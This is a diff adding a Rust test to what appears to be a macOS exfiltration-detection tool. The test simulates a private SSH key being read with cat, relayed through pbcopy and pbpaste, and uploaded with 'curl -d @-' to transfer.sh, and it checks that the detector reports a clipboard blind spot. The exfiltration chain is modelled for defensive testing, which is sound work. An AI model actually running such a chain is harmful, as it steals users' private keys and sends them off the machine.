@@ -388,3 +388,30 @@ fn a_renamed_interpreter_is_not_the_program_that_was_signed() {
         }
     }
 }
+
+/// By way of the clipboard: what was put there is taken by another. Whether it is the same nobody sees, which is said.
+#[test]
+fn m45_by_the_clipboard() {
+    const PBCOPY: Program = apple("/usr/bin/pbcopy", "com.apple.pbcopy");
+    const PBPASTE: Program = apple("/usr/bin/pbpaste", "com.apple.pbpaste");
+    for (path, said) in [("/Users/alice/.ssh/id_rsa", true), ("/Users/alice/Pictures/a.txt", false)] {
+        let mut w = World::new();
+        let shell = w.launch(0.0, apple("/bin/zsh", "com.apple.zsh"), &["-zsh"]);
+        let (first, second) = (w.fork(1.0, &shell), w.fork(1.001, &shell));
+        let cat = apple("/bin/cat", "com.apple.cat");
+        let cat = w.exec_in(1.01, &first, cat, &["cat", path], "null", &[(1, 43)], &[]);
+        let copy = w.exec_in(1.011, &second, PBCOPY, &["pbcopy"], "null", &[(0, 43)], &[]);
+        w.open(1.02, &cat, path);
+        w.exit(1.1, &cat);
+        w.exit(1.2, &copy);
+        let (first, second) = (w.fork(60.0, &shell), w.fork(60.001, &shell));
+        w.exec_in(60.01, &first, PBPASTE, &["pbpaste"], "null", &[(1, 44)], &[]);
+        let curl = apple("/usr/bin/curl", "com.apple.curl");
+        let curl = w.exec_in(60.011, &second, curl, &["curl", "-d", "@-"], "null", &[(0, 44)], &[]);
+        w.upload(60.2, &curl, "transfer.sh", 9_000);
+        let told = w.tell();
+        told.none();
+        let kinds: Vec<_> = told.coverage().iter().map(|blind| blind.kind.as_str()).collect();
+        assert_eq!(kinds.contains(&"ipc-possible"), said, "{path}: {kinds:?}");
+    }
+}
